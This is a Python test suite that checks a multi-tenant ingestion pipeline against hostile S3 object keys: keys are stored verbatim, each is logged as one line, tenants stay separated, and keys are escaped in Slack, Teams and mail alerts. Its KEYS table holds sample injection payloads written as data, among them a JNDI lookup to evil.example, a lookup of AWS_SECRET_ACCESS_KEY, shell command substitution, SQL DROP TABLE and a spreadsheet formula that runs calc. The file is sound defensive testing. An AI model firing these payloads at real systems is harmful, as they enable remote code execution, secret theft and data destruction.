"""Object keys as a tenant may choose them: whatever they hold, they are entered as they are, and name nothing else."""

import json
import string
import unicodedata

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from glue_scripts.arguments import PROCESSED_TO_ANALYTICS
from ingestion.alerts import Alerts, unrouted
from ingestion.arrival import parse
from ingestion.register import Registrar, place_of
from ingestion.webhook import slack, teams
from lineage import routing
from lineage.notices import Notices
from lineage.table import TENANT_PREFIX, file_id, node_id
from lineage.values import FileStatus
from tests.ingestion.builders import Functions, Topics, an_event, messages
from tests.lineage.builders import RAW, begin, enter

COMPOSED, DECOMPOSED = unicodedata.normalize("NFC", "ü"), unicodedata.normalize("NFD", "ü")
KEYS = {
    "encoded dots": "%2e%2e/%2e%2e/acme-eu/raw/sales/a.csv",
    "dots": "../../processed/sales/_commits/0.json",
    "encoded slash": "a%2Fb.csv",
    "encoded NUL": "a%00.csv",
    "plus": "a+b c.csv",
    "percent": "100%.csv",
    "two slashes": "//a//b.csv",
    "NUL": "a\0.csv",
    "newline": "a\nb.csv",
    "forged log line": 'a\n{"event": "arrival", "tenant": "globex"}.csv',
    "carriage return": "a\r\nb.csv",
    "escape": "\x1b[2J\x1b]0;x\x07.csv",
    "right to left": "a\u202evsc.exe",
    "line separator": "a\u2028b.csv",
    "composed": f"{COMPOSED}.csv",
    "decomposed": f"{DECOMPOSED}.csv",
    "version": "a.csv?versionId=v2",
    "fragment": "a.csv#x",
    "lookup": "${jndi:ldap://evil.example/a}.csv",
    "environment": "${env:AWS_SECRET_ACCESS_KEY}.csv",
    "reference": "{{resolve:ssm:/lake/chat}}.csv",
    "shell": "$(touch x);`id`.csv",
    "SQL": "a';DROP TABLE orders;--.csv",
    "quote": 'a".csv',
    "backslash": "a\\..\\b.csv",
    "ledger's delimiter": "T#globex#META",
    "glob": "**/*.csv",
    "markup": "<!channel> <https://evil.example|a> [b](https://evil.example) *c*.csv",
    "formula": "=cmd|' /C calc'!A0.csv",
    "astral": "𝕒😀.csv",
    "1,024 bytes": "x" * (1024 - len("raw/sales/")),
    "1,024 bytes of three each": "€" * ((1024 - len("raw/sales/")) // 3),
}
every_key = pytest.mark.parametrize("name", KEYS.values(), ids=KEYS)

# S3 takes any UTF-8 of at most 1,024 bytes.
tails = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=120).filter(
    lambda text: len(text.encode()) <= 1000
)


class Anybody:
    """Notices of nobody told yet."""

    def may_tell(self, *_: object) -> bool:
        return True

    def has_room(self, *_: object) -> bool:
        return True

    def withdraw(self, *_: object) -> None:
        pass


@pytest.fixture
def registrar(ledger):
    alerts = Alerts(Notices(ledger), Topics(), topic="arn:platform", environment="dev")
    return Registrar(ledger, Functions(), "lake-dev-dispatch", alerts=alerts)


@given(tails)
@example(DECOMPOSED)
@example("a%2e%2e+b%00")
@example("\0\r\n\u2028\u202e")
def test_an_event_gives_the_key_as_it_is(tail):
    assert parse(an_event(f"raw/{tail}")).key == f"raw/{tail}"


def test_hostile_keys_are_entered_once_each_and_claimed_as_they_are(registrar, ledger):
    keys = {f"raw/sales/{name}" for name in KEYS.values()}

    for key in sorted(keys):
        assert registrar.register(messages(an_event(key), an_event(key))) == {"batchItemFailures": []}

    assert {file.key: file.state for file in ledger.files("acme")} == dict.fromkeys(keys, FileStatus.RECEIVED)
    assert {member.key for member in begin(ledger).members} == keys


def test_hostile_keys_of_one_tenant_are_nothing_of_another(registrar, ledger):
    enter(ledger, "globex")

    registrar.register(messages(*(an_event(f"raw/sales/{name}") for name in KEYS.values())))

    assert len(ledger.files("acme")) == len(KEYS)
    assert ledger.files("globex") == []
    assert ledger.waiting("globex", "sales", RAW) == []


def test_hostile_keys_are_one_line_of_the_log_each(registrar, capsys):
    found = registrar.register(messages(*(an_event(f"raw/sales/{name}") for name in KEYS.values())))
    registrar.register(messages(*(f"rubbish {name}" for name in KEYS.values())))

    lines = [json.loads(line) for line in capsys.readouterr().out.split("\n") if line]
    assert found == {"batchItemFailures": []}
    assert [line["event"] for line in lines] == ["arrival"] * len(KEYS) + ["arrival_failed"] * len(KEYS)
    assert {line["key"] for line in lines[: len(KEYS)]} == {f"raw/sales/{name}" for name in KEYS.values()}
    assert {line["tenant"] for line in lines[: len(KEYS)]} == {"acme"}


@every_key
def test_a_mail_about_a_hostile_key_has_one_subject_and_lines_of_its_own_only(name):
    alerts = Alerts(Anybody(), Topics(), topic="arn:platform", environment="dev")
    alert = unrouted("acme", f"raw/{name}", 0)
    subject, text = alerts.subject(alert), alerts.message(alert)

    assert (subject.isascii(), subject.isprintable(), len(subject) <= 100) == (True, True, True)
    # A mark that turns the text after it stays in; it ends with its line.
    assert [line for line in text.split("\n") if not line.replace("\u202e", "").isprintable()] == []
    assert len(text.split("\n")) == len(alerts.message(unrouted("acme", "raw/a.csv", 0)).split("\n"))


@every_key
def test_a_hostile_key_is_no_markup_in_a_chat(name):
    posted = slack(f"about {name}", f"file: raw/{name}")["text"]
    card = json.dumps(teams(f"about {name}", f"file: raw/{name}"))

    assert "<" not in posted
    assert posted.count("```") == 2
    assert '"type": "TextBlock"' not in card


# -- what a key may be taken for --------------------------------------------------------------------------------------


@given(tails, tails)
@example(COMPOSED, DECOMPOSED)
@example("a%20b", "a b")
@example("a+b", "a b")
@example("A", "a")
@example("a/", "a")
@example("a//b", "a/b")
@example("./a", "a")
def test_two_keys_are_two_files(one, other):
    assert (file_id(one) == file_id(other)) == (one == other)


@given(tails, st.one_of(st.none(), tails))
def test_what_a_key_is_called_in_the_ledger_has_no_delimiter_of_the_ledger(tail, version):
    name = node_id(f"raw/{tail}", version, "etag", 1)

    assert set(name) <= set(string.ascii_lowercase + string.digits + ".")
    assert len(name) < 64


@given(tails)
@example("../processed/sales/_commits/b.json")
@example("\nprocessed/sales/_commits/b.json")
def test_a_key_under_raw_is_never_a_commit_object(tail):
    assert place_of(parse(an_event(f"raw/{tail}")), []).job != PROCESSED_TO_ANALYTICS


@pytest.mark.parametrize(
    "key",
    [
        "processed/sales/_commits/../b.json",
        "processed/sales/_commits/a/b.json",
        "processed/../sales/_commits/b.json",
        "processed/sales/_commits/b.json\n",
        "processed/Sales/_commits/b.json",
        "processed/sales%2f_commits/b.json",
        "processed/sales/_commits//.json/",
        "processed//_commits/b.json",
        "Processed/sales/_commits/b.json",
    ],
)
def test_what_only_looks_like_a_commit_object_is_none(key):
    real = place_of(parse(an_event("processed/sales/_commits/b.json")), [])
    assert (real.job, real.dataset) == (PROCESSED_TO_ANALYTICS, "sales")

    assert place_of(parse(an_event(key)), []).job is None


@given(tails)
@example("a\nb.csv")
@example("a/../../other/b.csv")
def test_a_key_belongs_to_the_dataset_whose_folder_it_is_in_and_to_no_other(tail):
    rules = [routing.Rule(dataset=name, files=(f"raw/{name}/**",)) for name in ("sales", "sale", "sales_eu")]

    assert routing.dataset_of(f"raw/sales/{tail}", rules) == "sales"


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=30, deadline=None)
@given(tails)
def test_any_key_at_all_is_registered(registrar, ledger, tail):
    key = f"raw/sales/{tail}x"

    assert registrar.register(messages(an_event(key))) == {"batchItemFailures": []}
    assert key in {file.key for file in ledger.files("acme")}


NOT_OF_S3 = [
    {"key": "raw/\ud800"},
    {"key": 5},
    {"key": None},
    {"key": ["raw/a"]},
    {"key": {"raw/a": 1}},
    {"size": "many"},
    {"size": 10**400},
    {"size": [1]},
    {"version-id": {"a": 1}},
    {"version-id": 7},
    {"etag": 7},
    {"sequencer": ["x"]},
]


def test_events_that_no_bucket_sends_fail_alone(registrar, ledger):
    events = [json.loads(an_event()) for _ in NOT_OF_S3]
    for event, change in zip(events, NOT_OF_S3, strict=True):
        event["detail"]["object"] |= change

    found = registrar.register(messages(*map(json.dumps, events), an_event("raw/sales/good.csv")))

    assert sorted(one["itemIdentifier"] for one in found["batchItemFailures"]) == sorted(
        f"m{number}" for number in range(len(NOT_OF_S3))
    )
    assert [file.key for file in ledger.files("acme")] == ["raw/sales/good.csv"]


def test_the_bucket_alone_says_whose_file_it_is(registrar, ledger):
    buckets = ["lake-globex-dev-datalake", "LAKE-ACME-DEV-DATALAKE", "x#y", "", 5, None, ["a"]]
    events = [json.loads(an_event()) for _ in buckets]
    for event, bucket in zip(events, buckets, strict=True):
        event["detail"] |= {"tenant": "acme", "bucket": {"name": bucket, "tenant": "acme"}}
        event["detail"]["object"]["tenant"] = "acme"

    found = registrar.register(messages(*map(json.dumps, events)))

    assert len(found["batchItemFailures"]) == len(buckets)
    assert ledger.files("acme") == []


def test_a_tenant_that_is_named_in_the_payload_is_not_believed(registrar, ledger):
    enter(ledger, "globex")
    event = json.loads(an_event())
    event |= {"tenant": "globex", "account": "999999999999"}
    event["detail"] |= {"tenant": "globex", "requester": "globex"}
    event["detail"]["object"] |= {"tenant": "globex"}

    registrar.register(messages(json.dumps(event)))

    assert [file.key for file in ledger.files("acme")] == ["raw/sales/a.csv"]
    assert ledger.files("globex") == []
    assert TENANT_PREFIX.format(tenant="acme") == "T#acme#"
